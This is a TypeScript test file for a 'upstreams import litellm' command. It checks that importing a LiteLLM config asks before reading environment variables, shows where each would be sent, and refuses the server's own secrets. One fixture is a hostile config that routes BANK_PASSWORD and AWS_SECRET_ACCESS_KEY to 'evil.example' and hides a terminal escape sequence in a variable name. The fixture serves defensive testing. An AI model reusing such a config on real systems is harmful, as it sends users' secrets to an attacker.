import { writeFileSync } from 'node:fs'
import { writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { PassThrough } from 'node:stream'
import { expect, onTestFinished, test, vi } from 'vitest'
import { openStoreReader } from '../harness/open-store-reader.ts'
import { runCommand } from '../harness/run-command.ts'
import { scratchPath } from '../harness/scratch-path.ts'
import { startHelix } from '../harness/start-helix.ts'

test('a LiteLLM file becomes upstreams of the running server, with a report of the rest', async () => {
  const helix = await startHelix()
  const file = join(helix.dataDir, 'config.yaml')
  await writeFile(
    file,
    `model_list:
  - model_name: llama
    litellm_params: { model: openai/llama-3, api_base: "http://127.0.0.1:9/v1", api_key: os.environ/LLAMA_KEY, rpm: 3 }
`,
  )
  const tried = await runCommand(['upstreams', 'import', 'litellm', file, '--dry-run', '--data-dir', helix.dataDir])
  expect(tried).toMatchObject({ code: 0, stdout: expect.stringMatching(/^compatible \(.*\): llama\n/) })
  await using before = openStoreReader(helix)
  expect(await before.upstreams.list()).toEqual([])
  const args = ['upstreams', 'import', 'litellm', file, '--json', '--yes', '--data-dir', helix.dataDir]
  const unset = await runCommand(args)
  expect(unset).toMatchObject({ code: 1, stdout: expect.stringContaining('LLAMA_KEY is not set') })
  onTestFinished(() => void vi.unstubAllEnvs())
  vi.stubEnv('LLAMA_KEY', 'sk-1')
  const imported = await runCommand(args)
  expect(JSON.parse(imported.stdout)).toMatchObject({
    upstreams: [{ name: 'compatible', models: ['llama'] }],
    omitted: [{ path: 'model_list[0].litellm_params.rpm' }],
  })
  await using after = openStoreReader(helix)
  expect(await after.upstreams.list()).toMatchObject([{ name: 'compatible' }])
})

test('the command names what it needs', async () => {
  expect(await runCommand(['upstreams', 'import', 'other', 'x.yaml'])).toMatchObject({ code: 2 })
})

/** Whoever wrote it wants to have secrets of the reader's environment sent to servers of their own. */
const thief = `model_list:
  - model_name: a
    litellm_params: { model: openai/a, api_base: "https://evil.example/v1", api_key: os.environ/BANK_PASSWORD }
  - model_name: b
    litellm_params: { model: openai/b, api_base: os.environ/SECRET_HOST, api_key: "os.environ/AWS_SECRET_ACCESS_KEY" }
  - { model_name: c, litellm_params: { model: anthropic/claude-c } }
  - { model_name: d, litellm_params: { model: openai/d, api_base: "https://evil.example/v1", api_key: os.environ/HELIX_SECRET_KEY } }
  - { model_name: e, litellm_params: { model: openai/e, api_base: "os.environ/HELIX_STORE", api_key: x } }
  - { model_name: f, litellm_params: { model: openai/f, api_base: "http://me:pw@x/", api_key: "os.environ/A\\e[2KB" } }
`
const secrets = {
  BANK_PASSWORD: 'hunter2-bank',
  SECRET_HOST: 'https://host-canary.example',
  AWS_SECRET_ACCESS_KEY: 'aws-canary',
  ANTHROPIC_API_KEY: 'anthropic-canary',
  HELIX_SECRET_KEY: 'helix-canary',
  HELIX_STORE: 'https://store-canary.example',
}
const canaries = new RegExp(Object.values(secrets).join('|'))

const tryThief = async (...options: string[]) => {
  onTestFinished(() => void vi.unstubAllEnvs())
  for (const [name, value] of Object.entries(secrets)) vi.stubEnv(name, value)
  const folder = scratchPath()
  const file = join(folder, 'config.yaml')
  writeFileSync(file, thief)
  return runCommand(['upstreams', 'import', 'litellm', file, ...options, '--data-dir', folder])
}

test('an import lists the variables that the file names and where each would be sent, and asks before it reads any', async () => {
  const asked = await tryThief()
  expect(asked).toMatchObject({ code: 2, stdout: '', stderr: expect.stringContaining('add --yes') })
  for (const line of [
    'BANK_PASSWORD: https://evil.example/v1',
    'SECRET_HOST: the address in SECRET_HOST',
    'AWS_SECRET_ACCESS_KEY: the address in SECRET_HOST',
    'ANTHROPIC_API_KEY: https://api.anthropic.com/v1',
    'A?[2KB: http://…@x/',
  ])
    expect(asked.stderr).toContain(`  ${line}\n`)
  expect(asked.stderr).not.toContain('HELIX_S')
  expect(asked.stderr).not.toMatch(canaries)
})

test('a no in the terminal reads and imports nothing', async () => {
  const terminal = Object.assign(new PassThrough(), { isTTY: true })
  const stdin = vi.spyOn(process, 'stdin', 'get').mockReturnValue(terminal as unknown as typeof process.stdin)
  onTestFinished(() => stdin.mockRestore())
  terminal.end('no\n')
  expect(await tryThief()).toMatchObject({
    code: 1,
    stderr: expect.stringMatching(/Nothing was read or imported\.\n$/),
  })
})

test('a dry run reads no variables, and those of Helix are never read', async () => {
  const tried = await tryThief('--dry-run', '--json')
  expect(tried.stdout).not.toMatch(canaries)
  const { upstreams, variables, omitted } = JSON.parse(tried.stdout)
  expect(upstreams).toMatchObject([{ models: ['a'] }, { models: ['c'] }, { models: ['f'] }])
  expect(variables).toContainEqual({ variable: 'BANK_PASSWORD', sentTo: ['https://evil.example/v1'] })
  expect(omitted).toMatchObject([
    { path: 'model_list[1].litellm_params.api_base', code: 'variable_in_dry_run', value: 'SECRET_HOST' },
    { path: 'model_list[3].litellm_params.api_key', code: 'variable_of_helix', value: 'HELIX_SECRET_KEY' },
    { path: 'model_list[4].litellm_params.api_base', code: 'variable_of_helix', value: 'HELIX_STORE' },
  ])
  const imported = await tryThief('--yes', '--json')
  expect(imported.stdout).not.toMatch(/helix-canary|store-canary/)
  expect(imported.stdout).toContain('variable_of_helix')
})
